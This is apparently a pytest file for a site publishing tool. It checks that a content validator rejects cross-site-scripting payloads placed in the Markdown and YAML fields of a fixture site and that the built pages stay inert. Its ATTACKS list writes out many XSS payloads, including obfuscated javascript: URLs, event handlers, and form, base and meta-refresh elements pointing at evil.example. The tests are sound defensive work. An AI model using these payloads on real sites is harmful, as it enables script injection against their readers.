"""Content written to run script in readers' browsers: each attempt is refused by `disclosure check`
(D401 at its file, line and field) and inert in the built site (no active content in any page).

The cases vary as an attacker would: case, character references, tabs and line breaks inside
the scheme, a `>` inside an attribute value, and every field the pages paste into Markdown.
Each edits a copy of tests/fixtures/mini; the line is the one the attack is written on.
"""

from __future__ import annotations

import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import MINI, check, copy_tree
from disclosure.publishing.active_content import findings

NEWS = "catalogue/docs/news.md"  # body starts on line 15
RULES = "catalogue/docs/rules.md"  # attachment file on line 19, body from line 21
INTERPRETATION = "interpretations/rules.md"  # body from line 9
ORGANIZATION = "catalogue/organization.yml"
DIRECTORY = "catalogue/directory.yml"
NEGATIVE = "catalogue/negative-list.yml"
GUIDE = "guides/lawyer.yml"


@dataclass(frozen=True)
class Attack:
    name: str
    file: str
    old: str
    new: str
    line: int
    field: str

    def __str__(self):
        return self.name


ATTACKS = [
    # Raw HTML with event handlers; a `>` inside a quoted value ends no tag.
    Attack("handler-after-gt-in-value", NEWS, "会议部署了年度律师工作。", '会议<img src=x alt="a>b" onerror=alert(1)>', 15, "body"),
    Attack("handler-upper-case", NEWS, "会议部署了年度律师工作。", '会议\n\n<P OnMouseOver="alert(1)">部署</P>', 17, "body"),
    Attack("handler-after-slash", INTERPRETATION, "依据律师法制定。", "依据<svg/onload=alert(1)>律师法", 11, "body"),
    # javascript: hidden by a character reference, a tab or a line break, in HTML and in Markdown.
    Attack("javascript-entity-tab", NEWS, "会议部署了年度律师工作。", '<a href="jav&#x09;ascript:alert(1)">详情</a>', 15, "body"),
    Attack("javascript-line-break", RULES, "为规范律师执业活动", '<a href="java\nscript:alert(1)">规范</a>律师执业活动', 23, "body"),
    Attack("javascript-markdown-entity", INTERPRETATION, "共二十条。", "共[二十](&#106;ava&#x0A;script:alert(1))条。", 15, "body"),
    Attack("javascript-reference-link", NEWS, "会议部署了年度律师工作。", "会议[详情][x]\n\n[x]: JaVaScRiPt:alert(1)", 17, "body"),
    # data: and vbscript: URLs.
    Attack("data-link", NEWS, "会议部署了年度律师工作。", "会议[下载](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", 15, "body"),
    Attack("data-image", INTERPRETATION, "共二十条。", '共二十条。<img src="DATA:image/svg+xml,&lt;svg onload=alert(1)&gt;">', 15, "body"),
    Attack("vbscript-link", RULES, "为规范律师执业活动", '<a href=" vbscript:msgbox(1)">为规范</a>律师执业活动', 23, "body"),
    # Elements that redirect, restyle or embed.
    Attack("base", NEWS, "会议部署了年度律师工作。", '会议。\n\n<base href="https://evil.example/">', 17, "body"),
    Attack("meta-refresh", RULES, "为规范律师执业活动", '<META HTTP-EQUIV="Refresh" CONTENT="0;URL=https://evil.example/">为规范律师执业活动', 23, "body"),
    Attack("style", INTERPRETATION, "共二十条。", "共二十条。\n\n<style>body{background:url(https://evil.example/x)}</style>", 17, "body"),
    Attack("iframe", NEWS, "会议部署了年度律师工作。", '会议\n\n<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', 17, "body"),
    Attack("script-mixed-case", RULES, "为规范律师执业活动", "<ScRiPt >alert(1)</sCrIpT>为规范律师执业活动", 23, "body"),
    Attack("form", NEWS, "会议部署了年度律师工作。", '会议\n\n<form action="https://evil.example/"><input name=p></form>', 17, "body"),
    # Attribute lists in bodies: on a paragraph, a heading, an inline element.
    Attack("attr-list-paragraph", NEWS, "会议部署了年度律师工作。", '会议部署了年度律师工作。\n{: onmouseover="alert(1)" }', 16, "body"),
    Attack("attr-list-heading", INTERPRETATION, "## 主要内容", "## 主要内容 {: onclick=alert(1) }", 13, "body"),
    Attack("attr-list-inline", RULES, "为规范律师执业活动", "*为规范*{: ONFOCUS=alert(1) tabindex=0 }律师执业活动", 23, "body"),
    # Fields the pages used to paste into Markdown, where an attribute list attached to a link.
    Attack("attr-list-interpretation-media", INTERPRETATION, "form: 文字解读", 'form: 视频解读\nmedia: "https://v.example.gov.cn/a.mp4){: onmouseover=alert(1) }"', 6, "media"),
    Attack("attr-list-organization-name", ORGANIZATION, "name: 测试市司法局", 'name: "测试市司法局{: onmouseover=alert(1) }"', 1, "name"),
    Attack("attr-list-directory-channel", DIRECTORY, "channels: [门户网站]", 'channels: ["门户网站{: onfocus=alert(1) autofocus }"]', 12, "items[1].children[1].channels[1]"),
    Attack("attr-list-attachment-file", RULES, "file: attachments/form.pdf", 'file: "attachments/form.pdf){: onmouseover=alert(1) }("', 19, "attachments[1].file"),
    # Other fields, other kinds.
    Attack("html-in-summary", NEWS, "summary: 部署年度律师工作。", 'summary: "部署<img src=x onerror=alert(1)>年度律师工作。"', 4, "summary"),
    Attack("javascript-in-guide-field", GUIDE, "location: 测试市人民路 1 号政务服务大厅", "location: '[政务服务大厅](javascript:alert(1))'", 28, "location"),
    Attack("handler-in-negative-list", NEGATIVE, "name: 内部事务信息", "name: '内部<b onclick=alert(1)>事务</b>信息'", 2, "items[1].name"),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_check_refuses_the_attack_at_its_file_line_and_field(mini, capsys, attack):
    path = mini / attack.file
    text = path.read_text(encoding="utf-8")
    assert attack.old in text, attack.old
    path.write_text(text.replace(attack.old, attack.new, 1), encoding="utf-8")
    code, diagnostics = check(mini, capsys=capsys)
    refused = [(d["file"], d["line"], d["field"]) for d in diagnostics if d["code"] == "D401"]
    assert (attack.file, attack.line, attack.field) in refused, diagnostics
    assert code == 1


@pytest.mark.slow
def test_comments_are_not_errors_but_never_reach_the_site(hostile_site):
    """An editor's note to a colleague is no attack: the check lets it be, the site never shows it."""
    site, _ = hostile_site
    for path in site.rglob("*"):
        if path.is_file() and path.suffix in (".html", ".json", ".xml", ".csv", ".bin", ""):
            assert "内部意见" not in path.read_bytes().decode("utf-8", "ignore"), path


@pytest.mark.slow
def test_every_page_is_inert(hostile_site):
    site, pages = hostile_site
    assert len(pages) > 20
    found = {str(page.relative_to(site)): findings(page.read_text(encoding="utf-8")) for page in pages}
    assert {page: what for page, what in found.items() if what} == {}


@pytest.mark.slow
def test_the_attacked_pages_still_show_their_text(hostile_site):
    """The sanitizer removes markup, not what the page says."""
    site, _ = hostile_site
    news = next(p for p in site.glob("documents/*/index.html") if "召开律师工作会议" in p.read_text(encoding="utf-8"))
    assert "部署" in news.read_text(encoding="utf-8")


@pytest.mark.slow
def test_the_built_pages_carry_the_content_security_policy(hostile_site):
    _, pages = hostile_site
    for page in pages:
        head = page.read_text(encoding="utf-8").split("</head>")[0]
        assert "http-equiv=\"Content-Security-Policy\"" in head, page
        assert "object-src 'none'" in head and "base-uri 'self'" in head and "form-action 'self'" in head


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> tuple[Path, list[Path]]:
    """tests/fixtures/mini with every attack at once (and an editor's comment), built without --strict
    as a careless local build would be: the errors are logged, the pages written."""
    root = copy_tree(MINI, tmp_path_factory.mktemp("hostile") / "mini")
    for attack in ATTACKS:
        if attack.name == "attr-list-attachment-file":
            (root / "attachments" / "form.pdf){: onmouseover=alert(1) }(").write_bytes((root / "attachments" / "form.pdf").read_bytes())
        path = root / attack.file
        text = path.read_text(encoding="utf-8")
        # Bodies end their files: each body attack is added as a paragraph of its own.
        text = text + "\n\n" + attack.new + "\n" if attack.field == "body" else text.replace(attack.old, attack.new, 1)
        path.write_text(text, encoding="utf-8")
    news = root / NEWS
    news.write_text(news.read_text(encoding="utf-8") + "\n<!-- 内部意见：待领导审核后再发 -->\n", encoding="utf-8")
    site = root / "site"
    result = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--no-strict", "--site-dir", str(site)],
        cwd=root, capture_output=True, text=True, timeout=600,
    )
    assert result.returncode == 0, result.stderr
    return site, sorted(site.rglob("*.html"))
